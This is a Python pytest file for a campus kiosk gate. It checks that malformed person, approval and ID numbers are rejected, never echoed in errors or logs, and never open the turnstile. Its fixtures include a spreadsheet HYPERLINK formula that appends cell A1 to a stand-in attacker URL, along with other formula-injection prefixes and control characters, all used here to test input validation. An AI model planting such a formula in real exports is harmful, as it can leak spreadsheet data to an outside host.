"""The identifier rule, and the guard's manual entry refusing identifiers no campus issues."""

from __future__ import annotations

import json

import pytest

from kiosk.core.identifiers import (
    IdentifierError,
    check_approval_no,
    check_id_number,
    check_person_no,
)
from kiosk.core.reasons import Reason

from .test_transaction import make_gate

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
IMPOSSIBLE = [
    FORMULA,
    "+1234",
    "-1234",
    "@SUM(A1)",
    "\tT1001",
    "\rT1001",
    "T10\x0001",
    "T1001 ",
    "T 1001",
    "",
    "王芳",
    "T" * 100_000,
]


@pytest.mark.parametrize("value", IMPOSSIBLE, ids=repr)
@pytest.mark.parametrize("check", [check_person_no, check_approval_no, check_id_number])
def test_impossible_identifiers_are_refused_without_echoing_them(check, value: str) -> None:
    with pytest.raises(IdentifierError) as err:
        check(value)
    assert value[:8] not in str(err.value) or not value.strip()


@pytest.mark.parametrize(
    ("check", "value"),
    [
        (check_person_no, "T1001"),
        (check_person_no, "S2021015"),
        (check_person_no, "2021-CS/007"),
        (check_approval_no, "V-0001"),
        (check_approval_no, "VA-2022-0108-007"),
        (check_id_number, "410105198001011234"),
        (check_id_number, "41010519800101123X"),
        (check_id_number, "E12345678"),
    ],
)
def test_real_identifiers_pass(check, value: str) -> None:
    assert check(value) == value


def test_limits_follow_the_credential_claims() -> None:
    assert check_person_no("T" * 32) and check_approval_no("V" * 64)
    for check, value in ((check_person_no, "T" * 33), (check_approval_no, "V" * 65)):
        with pytest.raises(IdentifierError):
            check(value)


@pytest.mark.parametrize("field", ["person_no", "approval_no", "id_number"])
@pytest.mark.parametrize("value", [FORMULA, "T1001\x00", "-2+3", "T" * 100_000])
def test_manual_entry_refuses_and_never_logs_an_impossible_identifier(
    field: str, value: str
) -> None:
    gate, _clock, sink, turnstile = make_gate()
    tx = gate.present_manual(**{field: value})
    assert tx.verdict.outcome == "reject"
    assert Reason.CREDENTIAL_MALFORMED in tx.verdict.reasons
    assert turnstile.pulses == 0
    blob = json.dumps([payload for _, payload in sink.records], ensure_ascii=False)
    assert value[:12] not in blob


def test_manual_entry_drops_surrounding_spaces() -> None:
    gate, _clock, _sink, _turnstile = make_gate()
    tx = gate.present_manual(person_no="  S2020001 ")
    assert tx.evidence.manual_person_no == "S2020001"
